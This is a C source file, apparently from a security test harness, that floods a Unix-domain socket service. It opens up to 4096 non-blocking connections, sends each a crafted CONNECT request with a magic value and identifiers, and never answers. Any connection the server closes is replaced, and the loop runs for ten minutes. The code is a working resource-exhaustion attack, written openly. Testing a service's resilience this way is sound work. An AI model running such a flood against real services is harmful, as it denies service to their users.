/* Connection requests of a process that never answers, and proves nothing. */
#define _GNU_SOURCE
#include "attack.h"
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/un.h>
#include <unistd.h>

enum { SECONDS = 600, MOST = 4096, PAUSE_MILLIS = 10 };

/* Sends a request. Returns its socket, or -1. */
static int request(const char *path) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  unsigned char bytes[128] = {0};
  uint32_t type = CONNECT, user = getuid(), numbers[2] = {number(), 16};
  uint64_t ids[3] = {next(), next(), next()};
  unsigned char link[44] = {0x56, 5, 4, 0};
  strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  int fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd >= 0 && connect(fd, (struct sockaddr *) &address, sizeof address)) {
    close(fd);
    return -1;
  }
  put(link, 4, ids, 24);
  put(bytes, put(bytes, put(bytes, put(bytes, put(bytes, put(bytes, 0, &type, 4), &MAGIC, 8), &user, 4), ids, 16), numbers, 8), ids + 2, 8);
  put(bytes, 60 + 4, link, sizeof link);
  say(fd, bytes, 64 + sizeof link, NULL, 0);
  return fd;
}

/* Keeps a number of requests open until this process is killed, and makes new ones for those that the other side ends. */
int flood(int count, const char *path) {
  static struct pollfd all[MOST];
  struct rlimit limit;
  int open = 0, said = 0;
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
  alarm(SECONDS);
  count = count < MOST ? count : MOST;
  for (;;) {
    for (int fd; open < count && (fd = request(path)) >= 0;) {
      all[open++] = (struct pollfd) {fd, 0, 0};
    }
    if (open == count && !said) {
      said = 1;
      printf("floods\n");
    }
    poll(all, (nfds_t) open, PAUSE_MILLIS);
    for (int i = open - 1; i >= 0; i--) {
      if (all[i].revents) {
        close(all[i].fd);
        all[i] = all[--open];
      }
    }
    if (!open) {
      usleep(PAUSE_MILLIS * 1000);
    }
  }
}
